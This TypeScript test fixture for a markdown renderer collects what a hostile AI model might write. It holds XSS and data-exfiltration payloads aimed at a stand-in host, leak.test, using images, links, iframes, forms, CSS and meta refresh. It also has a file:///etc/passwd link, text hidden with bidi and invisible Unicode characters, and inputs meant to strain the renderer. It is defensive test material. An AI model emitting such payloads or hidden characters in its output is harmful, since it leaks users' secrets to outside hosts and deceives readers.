/** What a hostile model writes. Every address of it leads to a host under `leak.test`, whose name would be the leak. */

const TAGS = [...'obéis']
  .map((letter) => String.fromCodePoint(0xe0000 + (letter.charCodeAt(0) & 0x7f)))
  .join('');

/** Characters that hide or turn text around. */
export const DECEIVING = `\u202egnal\u202c \u2066x\u2069 mot\u200b\u00adcoupé ${TAGS}fin \udb40\u202e\udc73`;

/** One of everything: raw HTML, images, addresses, definitions, entities, comments. */
export const ATTACK = [
  '<script>document.title = "pris"</script><img src="https://a.leak.test/i.png" onerror="document.title=1">',
  '![image](https://b.leak.test/i.png?q=secret) ![par référence][i]',
  '[i]: https://c.leak.test/i.png',
  '[définition][d] et [d]',
  '[d]: https://d.leak.test/?q=secret "titre"',
  '<iframe src="https://e.leak.test/"></iframe><object data="https://e.leak.test/"></object><embed src="https://e.leak.test/">',
  '<svg onload="document.title=1"><image href="https://f.leak.test/i.svg"/><use href="https://f.leak.test/#x"/></svg>',
  '<form action="https://g.leak.test/"><input name="mot" autofocus><button>Envoyer</button></form>',
  '<style>@import "https://h.leak.test/a.css"; * { display: none !important }</style><p style="position:fixed;inset:0;background:url(https://h.leak.test/)">x</p>',
  '<base href="https://i.leak.test/"><meta http-equiv="refresh" content="0;url=https://i.leak.test/"><link rel="dns-prefetch" href="//i.leak.test"><link rel="preconnect" href="https://i.leak.test">',
  '[un](javascript:document.title=1) [deux](data:text/html,x) [trois](vbscript:x) [quatre](https://agent:mot@j.leak.test/) [cinq](//k.leak.test/) [six](chrome://settings) [sept](file:///etc/passwd) [huit](options.html)',
  '[un lien](https://l.leak.test/chemin) et https://m.leak.test/?q=secret et www.n.leak.test et <https://o.leak.test/> et a@p.leak.test',
  '&lt;img src=https://q.leak.test/&gt; &#60;script&#62; <!-- <img src="https://r.leak.test/"> --> <![CDATA[x]]> <?php x ?>',
  '| a | b |\n|---|---|\n| <img src=https://s.leak.test/> | [x](https://t.leak.test/) |',
  '```html\n<img src="https://u.leak.test/">\n```',
  `> - 1. **gras ${DECEIVING}** <video src="https://v.leak.test/" autoplay></video><audio src="https://v.leak.test/" autoplay>`,
  'Dernier paragraphe.',
].join('\n\n');

/** Short texts that cost a careless renderer more than their length. */
export const BOMBS = ['>', '[a](', '|', '*a ', '`', 'a\n\n', ' '] as const;
